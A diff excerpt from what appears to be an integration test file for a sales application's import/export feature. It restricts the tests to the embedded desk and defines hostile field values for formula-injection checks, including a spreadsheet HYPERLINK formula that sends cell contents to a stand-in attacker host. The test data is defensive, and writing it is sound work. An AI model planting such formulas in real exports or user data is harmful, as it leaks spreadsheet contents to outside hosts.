@@ -24,6 +24,11 @@ from tests.conftest import PASSWORDS, World
 from tests.integration.order_steps import submitted
 from tests.integration.test_export import another_database, read
 
+# Import and export read and write files where the database is: through a server they are
+# `salescenter transfer` on the server's machine, and the remote desk refuses them
+# (tests/integration/test_server.py). So these run on the embedded desk only.
+pytestmark = pytest.mark.embedded_only
+
 RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = {
     "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
